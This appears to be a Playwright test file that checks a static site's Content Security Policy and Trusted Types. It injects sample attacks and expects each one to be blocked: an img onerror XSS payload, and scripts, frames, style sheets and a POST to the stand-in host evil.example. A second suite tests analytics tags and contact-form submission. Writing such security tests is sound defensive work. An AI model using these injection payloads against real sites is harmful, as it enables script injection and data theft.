import { execFileSync } from 'node:child_process';
import type { Server } from 'node:http';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, test } from 'vitest';
import { createSiteServer, listen } from '../../build/serve/serve.ts';
import { createSite, type FixtureSite } from '../fixture-site.ts';
import { launch } from './chromium.ts';
import { type FaultServer, startFaultServer } from './fault-server.ts';
import { CONTAINER_ID, MEASUREMENT_ID } from './google.ts';
import { ALL, decide } from './visitor.ts';

const ROOT = join(import.meta.dirname, '../..');
let browser: Browser;
let context: BrowserContext;
/** What the policy has blocked. */
let blocked: string[];

beforeAll(async () => {
  browser = await launch();
});
beforeEach(async () => {
  blocked = [];
  context = await browser.newContext();
  await context.exposeFunction('noteBlocked', (what: string) => blocked.push(what));
  await context.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      (window as unknown as { noteBlocked(what: string): void }).noteBlocked(
        `${effectiveDirective} ${blockedURI}`,
      );
    });
  });
});
afterEach(() => context.close());
afterAll(() => browser.close());

describe('what gets into a page by a mistake is not run', () => {
  let page: Page;
  beforeEach(async () => {
    page = await context.newPage();
    await page.goto(`${inject('site')}/about`);
  });

  test('text that becomes markup', async () => {
    const thrown = await page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src="/none" onerror="window.ran = true">');
      } catch (error) {
        return String(error);
      }
      return 'nothing';
    });
    expect(thrown).toContain('TrustedHTML');
    await expect.poll(() => blocked).toEqual(['require-trusted-types-for trusted-types-sink']);
  });

  test.each([
    [
      'an inline handler',
      'require-trusted-types-for',
      () => document.body.setAttribute('onclick', 'window.ran = true'),
    ],
    [
      'a script of another site',
      'require-trusted-types-for',
      () => add('script', { src: 'https://evil.example/x.js' }),
    ],
    [
      'a policy of its own for such scripts',
      'trusted-types',
      () => policyOf('default').createScriptURL('//evil.example/x.js'),
    ],
    ['a picture of another site', 'img-src', () => add('img', { src: 'https://evil.example/x.png' })],
    ['a frame', 'frame-src', () => add('iframe', { src: 'https://evil.example/' })],
    [
      'a style sheet of another site',
      'style-src-elem',
      () => add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' }),
    ],
    ['a base for all links', 'base-uri', () => add('base', { href: 'https://evil.example/' })],
    [
      'words for another site',
      'connect-src',
      () => void fetch('https://evil.example/', { method: 'POST' }).catch(() => {}),
    ],
  ])('%s', async (_, directive, attack) => {
    await page.evaluate(helpers);
    await page.evaluate(attack).catch(() => {});
    await page.locator('h1').click();
    await expect.poll(() => blocked).toContainEqual(expect.stringMatching(`^${directive} `));
    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  });
});

// Made in the page by `helpers`.
declare function add(name: string, attributes: Record<string, string>): void;
declare function policyOf(name: string): { createScriptURL(address: string): unknown };

function helpers(): void {
  Object.assign(window, {
    add(name: string, attributes: Record<string, string>) {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      document.body.append(element);
    },
    policyOf: (name: string) =>
      (window as unknown as { trustedTypes: TrustedTypes }).trustedTypes.createPolicy(name, {
        createScriptURL: (address) => address,
      }),
  });
}

interface TrustedTypes {
  createPolicy(
    name: string,
    rules: { createScriptURL(address: string): string },
  ): { createScriptURL(address: string): unknown };
}

describe('a site that is measured, and posts its forms', () => {
  let site: FixtureSite;
  let server: Server;
  let address: string;
  let endpoint: FaultServer;
  beforeAll(async () => {
    site = await createSite();
    await site.edit('site.yaml', (text) =>
      text
        .replace('measurementId: null', `measurementId: ${MEASUREMENT_ID}`)
        .replace('containerId: null', `containerId: ${CONTAINER_ID}`),
    );
    const out = join(site.root, '../dist');
    server = createSiteServer(out);
    address = await listen(server, 0, '127.0.0.1');
    endpoint = await startFaultServer(address);
    const command = [
      '--import',
      'tsx',
      'build.ts',
      'build',
      '--no-compress',
      '--content',
      site.root,
      '--out',
      out,
    ];
    execFileSync(process.execPath, command, {
      cwd: ROOT,
      stdio: 'pipe',
      env: { ...process.env, FORMS_ENDPOINT: endpoint.address },
    });
  }, 120_000);
  afterAll(async () => {
    server.closeAllConnections();
    server.close();
    await endpoint.close();
    await site.remove();
  });

  test('loads its tags and sends its forms, and nothing is blocked', async () => {
    await decide(context, ALL);
    await context.route('https://www.googletagmanager.com/**', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: 'window.tagged = true' }),
    );
    const page = await context.newPage();
    await page.goto(`${address}/contact`);
    await page.waitForFunction(() => 'tagged' in window);
    const form = page.locator('#contact-form');
    await form.scrollIntoViewIfNeeded();
    await page.locator('#contact-form[novalidate]').waitFor();
    await form.getByLabel('Name').first().fill('Ada Hall');
    await form.locator('[name=email]').fill('ada@example.com');
    await form.locator('[name=message]').fill('Our market is Omaha.');
    await form.locator('[type=submit]').click();
    await page.locator('.toast').waitFor();
    expect(endpoint.attempts).toHaveLength(1);
    expect(blocked).toEqual([]);
  });

  test('posts its forms without script', async () => {
    const plain = await browser.newContext({ javaScriptEnabled: false });
    const page = await plain.newPage();
    await page.goto(`${address}/contact`);
    await page.locator('#contact-form [name=name]').fill('Ada Hall');
    await page.locator('#contact-form [name=email]').fill('ada@example.com');
    await page.locator('#contact-form [name=message]').fill('Our market is Lincoln.');
    await page.locator('#contact-form [type=submit]').click();
    await page.waitForURL('**/thank-you');
    await plain.close();
  });
});
